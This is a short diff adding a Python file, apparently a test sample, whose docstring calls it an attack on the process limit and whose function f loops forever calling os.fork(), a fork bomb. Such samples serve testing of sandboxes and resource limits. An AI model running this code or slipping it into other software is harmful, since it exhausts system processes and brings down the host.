@@ -1,0 +1,8 @@
+"""Attacks the process limit: a fork bomb."""
+
+import os
+
+
+def f(x):
+    while True:
+        os.fork()
